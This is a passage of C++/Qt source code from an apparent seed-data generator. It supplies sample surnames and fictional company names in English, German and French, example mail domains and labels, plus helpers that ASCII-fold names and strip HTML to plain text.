              "Thompson", "Walker",  "Wright",   "Robinson", "Hughes",  "Clarke", "Hall",   "Green",
              "Wood",     "Baker",   "Carter",   "Mitchell", "O'Brien", "Patel",  "Murphy", "Khan"}),
        list({"Müller",   "Schmidt",  "Schneider", "Fischer", "Weber", "Meyer",   "Wagner", "Becker",
              "Schulz",   "Hoffmann", "Schäfer",   "Koch",    "Bauer", "Richter", "Klein",  "Wolf",
              "Schröder", "Neumann",  "Schwarz",   "Krüger",  "Weiß",  "Groß",    "Jäger",  "Köhler"}),
        list({"Martin", "Bernard", "Dubois", "Thomas",  "Robert",   "Richard", "Petit",   "Durand",
              "Leroy",  "Moreau",  "Simon",  "Laurent", "Lefèvre",  "Michel",  "Garcia",  "Fournier",
              "Girard", "Bonnet",  "Dupont", "Lambert", "Rousseau", "Faure",   "Mercier", "Chevalier"})};
    return names[lang(language)];
}

QStringList SeedCorpus::organizations(int language)
{
    static const QStringList names[3] = {
        list({"Northwind Traders Ltd", "Blue Harbour Logistics", "Acme Widgets Inc",
              "Riverside Dental Clinic", "Brightline Media", "Oakridge University", "Pinecrest Hotels",
              "Summit Outdoor Gear", "Kestrel Analytics", "Harbor & Finch LLP", "Greenleaf Grocers",
              "Copperfield Insurance"}),
        list({"Bäckerei Schäfer GmbH", "Müller Maschinenbau AG", "Stadtwerke Lindenau",
              "Rheinblick Versicherung", "Kraus & Söhne KG", "Alpenglühen Reisen GmbH",
              "Nordlicht Software GmbH", "Weißwald Apotheke", "Hofmann Logistik",
              "Zahnarztpraxis Dr. Brückner"}),
        list({"Boulangerie Lefèvre SARL", "Atelier Céleste", "Transports Dubois & Fils", "Hôtel du Lac",
              "Librairie Molière", "Énergies du Sud SAS", "Pharmacie Saint-Étienne", "Cabinet Moreau Avocats",
              "Vignobles Château Lumière", "Crèmerie Normande"})};
    return names[lang(language)];
}

QString SeedCorpus::freeMailDomain(int language)
{
    static const char *domains[3] = {"mail.example.com", "post.example.de", "courriel.example.fr"};
    return u(domains[lang(language)]);
}

QStringList SeedCorpus::labelPool()
{
    return list({"vip", "follow-up", "newsletter", "escalated", "dringend", "rückruf", "facture", "urgent",
                 "beta", "partner"});
}

QString SeedCorpus::asciiFold(const QString &text)
{
    QString german = text.toLower();
    german.replace(QStringLiteral("ä"), QStringLiteral("ae"))
        .replace(QStringLiteral("ö"), QStringLiteral("oe"))
        .replace(QStringLiteral("ü"), QStringLiteral("ue"))
        .replace(QStringLiteral("ß"), QStringLiteral("ss"));
    const QString decomposed = german.normalized(QString::NormalizationForm_D);
    QString out;
    for (QChar c : decomposed) {
        if (c.isLetterOrNumber() && c.unicode() < 128)
            out += c;
        else if (c == QLatin1Char(' ') || c == QLatin1Char('-') || c == QLatin1Char('.'))
            out += QLatin1Char('.');
    }
    return out;
}

QString SeedCorpus::plainText(const QString &html)
{
    static const QRegularExpression hidden(QStringLiteral("<(script|style|blockquote)[^>]*>.*?</\\1>"),
                                           QRegularExpression::CaseInsensitiveOption |
                                               QRegularExpression::DotMatchesEverythingOption);
    static const QRegularExpression tags(QStringLiteral("<[^>]*>"));
    static const QRegularExpression spaces(QStringLiteral("\\s+"));
    QString text = html;
    text.remove(hidden);
    text.replace(QStringLiteral("<br>"), QStringLiteral(" "));
    text.replace(tags, QStringLiteral(" "));
    text.replace(QStringLiteral("&lt;"), QStringLiteral("<"))
        .replace(QStringLiteral("&gt;"), QStringLiteral(">"))
        .replace(QStringLiteral("&quot;"), QStringLiteral("\""))
        .replace(QStringLiteral("&#39;"), QStringLiteral("'"))
        .replace(QStringLiteral("&nbsp;"), QStringLiteral(" "))
        .replace(QStringLiteral("&amp;"), QStringLiteral("&"));
    return text.replace(spaces, QStringLiteral(" ")).trimmed();
}
